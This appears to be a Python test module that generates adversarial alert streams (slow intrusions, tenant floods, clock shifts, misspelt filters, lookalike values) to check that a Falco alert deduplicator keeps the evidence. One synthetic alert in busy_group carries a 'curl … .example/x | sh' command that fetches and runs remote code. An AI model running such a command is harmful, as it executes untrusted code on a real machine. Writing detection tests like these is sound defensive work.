"""Attacks as courses: intrusions that take their time, floods, unknown sources, and settings that are turned on us."""

from __future__ import annotations

import random
from collections.abc import Callable
from dataclasses import replace
from typing import Any, Final

from streamer.transform.plan import Plan
from tests.adversarial.alerts import (
    EVIDENCE,
    FIELDS,
    NOISE,
    PLAN,
    VOLATILE,
    acme,
    falco,
    pressed,
    rate,
    unique,
)
from tests.adversarial.arena import Attack, Demand, Line, Mark
from tests.unit.transform.course import planned
from tests.unit.transform.samples import SECOND_NS

PROTECTING: Final = {"protected": ["emergency", "alert", "critical", "notice", "warning"]}
_PRIORITIES: Final = (
    "Emergency",
    "Alert",
    "Critical",
    "Error",
    "Warning",
    "Notice",
    "Informational",
    "Debug",
)
_BUSY: Final = {"proc.name": "sh", "proc.cmdline": "sh -c health-check"}


class _Log:
    """A log in the making."""

    def __init__(self) -> None:
        self.lines: list[Line] = []
        self.marks: list[Mark] = []

    def say(self, body: bytes, seconds: float = 0, *, clock_seconds: float = 0) -> None:
        self.lines.append(Line(body, round(seconds * SECOND_NS), round(clock_seconds * SECOND_NS)))

    def plant(
        self, body: bytes, place: str | None, seconds: float = 0, demand: Demand = Demand.SHOWN
    ) -> None:
        self.marks.append(Mark(len(self.lines), place, demand))
        self.say(body, seconds)


def _busy_for(rng: random.Random, log: _Log, seconds: float, **alert: Any) -> None:
    """The same alert again and again, as of a health check, so that the group's windows grow."""
    every = rng.choice((15, 30, 45))
    for _ in range(int(seconds // every)):
        log.say(falco(_BUSY, **alert), every)


def slow_intrusion(rng: random.Random) -> Attack:
    """One distinct command line every 5 s in a group that is busy anyway; each of them is evidence."""
    log, alert = _Log(), {"priority": rng.choice(("Critical", "Notice", rng.choice(_PRIORITIES)))}
    _busy_for(rng, log, rng.choice((0, 120, 600)), **alert)
    steps = 480 if rng.random() < 0.02 else rng.randrange(20, 50)
    every = 5 if steps == 480 else rng.choice((1, 5, 5, 20, 50))
    place = rng.choice(EVIDENCE)
    for n in range(steps):
        if n % 4 == 3:
            log.say(falco(_BUSY, **alert))
        log.plant(falco(_BUSY | {place: f"sh -c {unique(rng)}"}, **alert), place, every)
    return Attack(_plan(rng, 0.3), log.lines, log.marks)


def busy_group(rng: random.Random) -> Attack:
    """A group that has been busy for half an hour and has used up its variants, then what it was all for."""
    log, alert = _Log(), {"priority": rng.choice(("Notice", "Warning", "Debug", "Critical"))}
    variants = rng.choice((10, 10, 11, 30))
    if rng.random() < 0.5:
        _busy_for(rng, log, 1800, **alert)
    for n in range(variants):
        log.say(falco(_BUSY | {"proc.cmdline": f"sh -c check-{n}"}, **alert), rng.choice((0, 1, 9)))
    _busy_for(rng, log, rng.choice((0, 60, 1800)), **alert)
    url = f"curl -s https://{unique(rng)}.example/x | sh"
    log.plant(falco(_BUSY | {"proc.cmdline": url}, **alert), "proc.cmdline", rng.choice((0, 1, 5)))
    if rng.random() < 0.5:
        _busy_for(rng, log, rng.choice((60, 300)), **alert)
    return Attack(_plan(rng, 0.3), log.lines, log.marks)


def tenant_flood(rng: random.Random) -> Attack:
    """One tenant floods; the first alerts of twenty others on the same node must reach their topic."""
    burst = 300 if rng.random() < 0.05 else 60
    plan = planned(limits={"burst": burst, "target": {"burst": 2 * burst}}) if burst != 300 else PLAN
    log, flood = _Log(), list[bytes]()
    shape = rng.choice(("commands", "processes", "pods", "rules"))
    for n in range(burst + 20):
        fields: dict[str, Any] = {"k8s.ns.name": "tenant-0", "k8s.pod.name": "job-0"}
        changed: dict[str, Any] = {}
        if shape == "pods":
            fields |= {"k8s.pod.name": f"job-{n}", "container.id": f"{n:012x}"}
        elif shape == "rules":
            changed = {"rule": f"Rule {n % 7}"}
        fields |= {"proc.cmdline": f"x {n}", "proc.name": f"p{n}" if shape == "processes" else "x"}
        flood.append(falco(fields, **changed))
    for body in flood[:burst]:
        log.say(body)
    victims = [
        {"k8s.ns.name": f"tenant-{n}", "k8s.pod.name": f"web-{n}", "container.id": f"c{n:011x}"}
        for n in range(1, 21)
    ]
    rng.shuffle(victims)
    for fields, body in zip(victims, flood[burst:], strict=True):
        log.say(body, rng.choice((0, 0.01, 1)))
        log.plant(falco(fields | {"proc.cmdline": unique(rng)}), "proc.cmdline", 0.001, Demand.ON_TOPIC)
    return Attack(plan, log.lines, log.marks)


def new_groups(rng: random.Random) -> Attack:
    """A flood in which each alert is the first of its group, so that nothing is a repeat; more than is reserved."""
    log, names = _Log(), ("k8s.ns.name", "k8s.pod.name", "container.id", "proc.name", "user.name")
    place = rng.choice(names)
    limits = rate(rng.choice((1, 60)), rng.choice((5, 20, 300)))
    limits["target"] = rate(rng.choice((1, 60)), rng.choice((5, 20, 800)))
    crowd = rng.randrange(10, 80)
    at = rng.randrange(crowd)
    for n in range(crowd):
        log.say(falco({place: f"new-{n}-{rng.getrandbits(32)}"}), rng.choice((0, 0.001, 1)))
        if n == at:
            own = rng.choice((place, rng.choice(names)))
            log.plant(falco({own: f"new-{unique(rng)}"}), own, demand=Demand.WHOLE)
            log.plant(falco({place: f"new-{n}-x", "fd.name": unique(rng)}), "fd.name")
    return Attack(planned(limits=limits), log.lines, log.marks)


def unknown_source(rng: random.Random) -> Attack:
    """An in-house plugin whose events have ids and times; one of 158 is what matters, and differs elsewhere."""
    log, events = _Log(), 158 if rng.random() < 0.1 else rng.randrange(3, 60)
    places = ("acme.action", "acme.target", "acme.actor", "acme.detail")
    kept, at = rng.randrange(1, 5), rng.randrange(events)
    priority = rng.choice(("Notice", "Warning", "Critical"))
    for n in range(events):
        usual = {name: f"usual-{rng.randrange(kept)}" for name in places[:2]}
        if n == at:
            place = rng.choice(places)
            body = acme(rng, n, usual | {place: unique(rng)}, priority=priority)
            log.plant(body, place, rng.choice((1, 8)), Demand.WHOLE)
        log.say(acme(rng, n, usual, priority=priority), rng.choice((1, 8)))
    return Attack(_plan(rng, 0.2), log.lines, log.marks)


def made_volatile(rng: random.Random) -> Attack:
    """Fields of an unknown source are made to differ in each alert; then one of them carries what matters."""
    log, places = _Log(), ("acme.action", "acme.target", "acme.actor", "acme.detail")
    made = rng.sample(places, rng.choice((1, 2, 4)))
    for n in range(rng.randrange(10, 60)):
        log.say(acme(rng, n, {name: f"{name} {rng.getrandbits(48)}" for name in made}), rng.choice((1, 8)))
        if rng.random() < 0.05:
            place = rng.choice(made)
            log.plant(acme(rng, n, {place: unique(rng)}), place, 1)
    place = rng.choice(made)
    fields = {name: f"{name} {rng.getrandbits(48)}" for name in made} | {place: unique(rng)}
    log.plant(acme(rng, 999, fields), place, rng.choice((0, 1, 600)))
    return Attack(_plan(rng, 0.2), log.lines, log.marks)


def misspelt_filter(rng: random.Random) -> Attack:
    """A drop filter with a mistake in it: either the settings refuse it, or it drops nothing."""
    name, value = rng.choice(("k8s.ns.name", "proc.cmdline", "user.name", "rule", "source")), "kube-system"
    negative = rng.choice((f'!= "{value}"', f'!~ "{value}"', '!~ "kube-.*|dev-.*"', '!~ "[a-z]{40}"'))
    wrong_operator = rng.choice(
        ("==", "===", "!==", "=!", "<>", "<", ">", "~", "!", "is not", "=~=", "not in")
    )
    wrong = (
        f"{_misspelt(rng, name)} {negative}",
        f"{name.title() if '.' not in name else name.upper()} {negative}",
        f'{name} {wrong_operator} "{value}"',
        f"{name} != '{value}'",
        f"{name} != “{value}”",
        f'{name} != "{value}',
        "priority => debug",
        "priority > = debug",
        'prio != "debug"',
        'tag != "x"',
        'output_fields.proc.name != "x"',
    )
    matches = [rng.choice(wrong)]
    if rng.random() < 0.3:
        matches.append(rng.choice(('priority = "notice"', 'rule =~ ".*"', rng.choice(wrong))))
    try:
        plan = planned(filters=[{"action": "drop", "match": matches, "reason": "noise"}])
    except ValueError:
        plan = PLAN  # refused: the attack is over
    log = _Log()
    for body in rng.sample(NOISE, 5):
        log.say(body, 1)
    for _ in range(rng.randrange(1, 5)):
        place = rng.choice(EVIDENCE)
        log.plant(falco({place: unique(rng)}), place, 1, Demand.WHOLE)
    return Attack(plan, log.lines, log.marks)


def _misspelt(rng: random.Random, name: str) -> str:
    """A name with a letter left out, doubled, or in another's place, that no alert has."""
    while True:
        at = rng.randrange(len(name) - 1)
        found = rng.choice(
            (
                name[:at] + name[at + 1 :],
                name[:at] + name[at] + name[at:],
                name[:at] + name[at + 1] + name[at] + name[at + 2 :],
            )
        )
        if found not in FIELDS and found != name:
            return found


def kafka_limits(rng: random.Random) -> Attack:
    """Our clock is set back, or forth, while limits that protect Kafka are far from exceeded."""
    ample = rate(120, 6)
    limits = rng.choice(({"overall": ample}, {"per_topic": ample}, {"overall": ample, "per_topic": ample}))
    log, steps = _Log(), (-3600, -3600, -60, -86_400, 300, 3600)
    priority = rng.choice(("Notice", "Critical"))
    for n in range(rng.randrange(12, 30)):
        body = falco({"proc.name": f"p{n}", "fd.name": unique(rng)}, priority=priority)
        log.plant(body, "fd.name", rng.choice((1, 2, 10)), Demand.ON_TOPIC)
    for _ in range(rng.choice((1, 1, 3))):
        at = rng.randrange(1, len(log.lines))
        log.lines[at] = log.lines[at]._replace(clock_ns=rng.choice(steps) * SECOND_NS)
    return Attack(planned(cores=1, limits=limits), log.lines, log.marks, most_lines=2)


def kafka_flood(rng: random.Random) -> Attack:
    """Limits that protect Kafka are exceeded, also by what is protected: all that they divert stays whole."""
    low = rate(rng.choice((1, 60)), rng.choice((1, 10)))
    limits = rng.choice(({"overall": low}, {"per_topic": low}))
    log = _Log()
    for n in range(rng.randrange(3, 40)):
        priority = rng.choice(("Critical", "Emergency", "Notice"))
        own = {"proc.name": f"p{n % 7}", "fd.name": unique(rng)}
        log.plant(falco(own, priority=priority), "fd.name", rng.choice((0, 0.01, 1)))
    return Attack(planned(cores=1, limits=limits), log.lines, log.marks)


def our_clock(rng: random.Random) -> Attack:
    """Our clock is set back after evidence was counted, and the log falls silent: it is reported in time."""
    log = _Log()
    for n in range(rng.randrange(11, 16)):
        log.say(falco(_BUSY | {"proc.cmdline": f"sh -c {n}"}), 1)
    log.plant(falco(_BUSY | {"proc.cmdline": unique(rng)}), "proc.cmdline", 1)
    log.say(NOISE[0], rng.choice((0, 5)), clock_seconds=rng.choice((-3600, -3600, -30, 3600)))
    return Attack(PLAN, log.lines, log.marks)


def neighbours(rng: random.Random) -> Attack:
    """All that differs in the crowd is volatile; in the marked alert a field next to those differs too."""
    log = _Log()
    place = rng.choice(
        ("proc.pname", "proc.pexe", "fd.sport", "fd.sip", "evt.type", "evt.arg.flags", "proc.exe")
    )
    usual = {"proc.pname": "sh", "proc.pexe": "/bin/sh", "fd.sport": 443, "fd.sip": "10.0.0.1"}
    usual |= {"evt.type": "execve", "evt.arg.flags": "0", "proc.exe": "/bin/sh"}

    def volatile() -> dict[str, Any]:
        return usual | {name: rng.getrandbits(30) for name in rng.sample(VOLATILE, 6)}

    for n in range(rng.randrange(1, 40)):
        own = {rng.choice(EVIDENCE): f"sh -c {n}"} if n % 9 == 8 else {}
        log.say(falco(volatile() | own), rng.choice((0, 0.5, 7)))
    value: Any = rng.randrange(10**6, 10**9) if place == "fd.sport" else unique(rng)
    log.plant(falco(volatile() | {place: value}), place, rng.choice((0, 5)))
    return Attack(_plan(rng, 0.5), log.lines, log.marks)


def alike_values(rng: random.Random) -> Attack:
    """Values that a careless hash takes for others: of another type, in another field, cut at another place."""
    log, number = _Log(), rng.randrange(10**6, 10**9)
    one, two = "fd.name", "evt.args"
    pairs: tuple[tuple[dict[str, Any], dict[str, Any]], ...] = (
        ({one: number}, {one: str(number)}),
        ({one: [number]}, {one: f"[{number}]"}),
        ({one: [f"{number}", "b"]}, {one: [f'{number}","b']}),
        ({one: f"{number}", two: "b"}, {one: "b", two: f"{number}"}),
        ({one: f"{number}b", two: ""}, {one: f"{number}", two: "b"}),
        ({one: f"{number} {two}=b", two: None}, {one: f"{number}", two: "b"}),
        ({one: {"a": number, "b": 1}}, {one: {"a": number, "b": True}}),
        ({one: float(number)}, {one: number}),
        ({one: f"{number} "}, {one: f"{number}"}),
        ({one: f"{number}\u0000x"}, {one: f"{number}"}),
        ({one: f"{number}é"}, {one: f"{number}e\u0301"}),
        ({one: f"K{number}"}, {one: f"\u212a{number}"}),
        ({one: None, two: number}, {one: number, two: None}),
        ({one: f"10.0.0.7:80->{number}:443"}, {one: f"10.0.0.7->{number}:443"}),
        ({one: f"/tmp/tmp.abcdef{number}"}, {one: f"/tmp/tmp*{number}"}),
        ({one: f"{number}…"}, {one: f"{number}..."}),
        ({one: f"http://{number}/A"}, {one: f"http://{number}/a"}),
    )
    pair = rng.choice(pairs)
    harmless, planted = pair if rng.random() < 0.5 else pair[::-1]
    for n in range(rng.choice((0, 11, 15))):
        log.say(falco({"proc.cmdline": f"sh -c {n}"}), rng.choice((0, 1)))
    for _ in range(rng.randrange(1, 4)):
        log.say(falco(harmless), rng.choice((0, 1)))
    place = next(name for name in planted if repr(planted[name]) != repr(harmless.get(name)))
    log.plant(falco(planted), place, rng.choice((0, 1)))
    return Attack(_plan(rng, 0.5), log.lines, log.marks)


def oversize(rng: random.Random) -> Attack:
    """Alerts with thousands of fields, long names and long lists: what matters stands at any place in them."""
    log, count = _Log(), rng.choice((100, 400, 1000))
    length = rng.choice((1, 30)) if count > 100 else rng.choice((30, 300))
    filling = {f"zz.{'n' * length}{n}": "v" * rng.choice((0, 5)) for n in range(count)}
    place = rng.choice(("aa.first", "zz.last", rng.choice(tuple(filling))))
    changed: dict[str, Any] = rng.choice(({}, {"rule": "R" * 5000}, {"tags": ["t" * 50] * 200}))
    for n in range(rng.choice((1, 3, 12))):
        log.say(falco(filling | {place: f"x{n}"}, **changed), rng.choice((0, 1)))
    log.plant(falco(filling | {place: unique(rng)}, **changed), place)
    return Attack(_plan(rng, 0.3), log.lines, log.marks)


def _plan(rng: random.Random, tight: float) -> Plan:
    """The defaults; with this probability with tight bounds on memory, and a few variants."""
    limits = PROTECTING if rng.random() < 0.05 else {}
    if rng.random() >= tight:
        return planned(limits=limits) if limits else PLAN
    return replace(PLAN, dedupe=pressed(rng).dedupe)


INTRUSIONS: Final[tuple[Callable[[random.Random], Attack], ...]] = (
    slow_intrusion,
    busy_group,
    tenant_flood,
    new_groups,
    unknown_source,
    made_volatile,
    misspelt_filter,
    kafka_limits,
    kafka_flood,
    our_clock,
    neighbours,
    alike_values,
    oversize,
)
